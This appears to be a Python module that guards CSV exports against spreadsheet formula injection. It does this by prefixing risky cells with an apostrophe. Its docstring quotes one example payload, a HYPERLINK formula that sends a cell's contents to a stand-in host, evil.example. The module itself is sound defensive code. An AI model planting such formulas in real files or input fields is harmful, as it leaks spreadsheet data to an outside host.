"""Cells of a CSV file that a spreadsheet program opens: shown as text, never evaluated.

Excel, LibreOffice and Google Sheets take a cell starting with ``=``, ``+``, ``-`` or ``@`` for a
formula, and a leading tab or carriage return can hide one (OWASP, "CSV Injection"). A name such as
``=HYPERLINK("http://evil.example/?"&A1, "click")`` typed at registration would otherwise run in an
organiser's spreadsheet. Such a cell is written with a leading ``'``, which the programs read as
"this is text" and do not show. Whole numbers are written as numbers: ``-50`` is the number −50 to
every program, not a formula, and a penalty must stay summable.

Only the CSV is escaped; the JSON export keeps every text exactly as stored.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator

FORMULA_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"
BOM = b"\xef\xbb\xbf"  # UTF-8's byte order mark: how Excel knows a CSV file is UTF-8


def is_formula_like(text: str) -> bool:
    """Would a spreadsheet read this cell as (the start of) a formula?"""
    return text.startswith(FORMULA_STARTS)


def safe_cell(value: object) -> str:
    """The text of a CSV cell: None is empty, a whole number (not a bool) is its digits, and any
    other text starting with a formula character gets a leading ``'``."""
    if value is None:
        return ""
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    text = value if isinstance(value, str) else str(value)
    return ESCAPE + text if is_formula_like(text) else text


def csv_records(
    header: Iterable[str], records: Iterable[Iterable[object]], *, bom: bool = True
) -> Iterator[bytes]:
    """A CSV file a record at a time, as UTF-8 bytes (CRLF line ends, as RFC 4180 and Excel expect):
    the header (after the byte order mark, unless ``bom`` is False), then each record, every cell
    written by :func:`safe_cell`. Records are read as the bytes are taken, so a long export is never
    held in memory."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")

    def take() -> bytes:
        out = buffer.getvalue().encode("utf-8")
        buffer.seek(0)
        buffer.truncate()
        return out

    writer.writerow(list(header))
    yield (BOM if bom else b"") + take()
    for record in records:
        writer.writerow([safe_cell(cell) for cell in record])
        yield take()
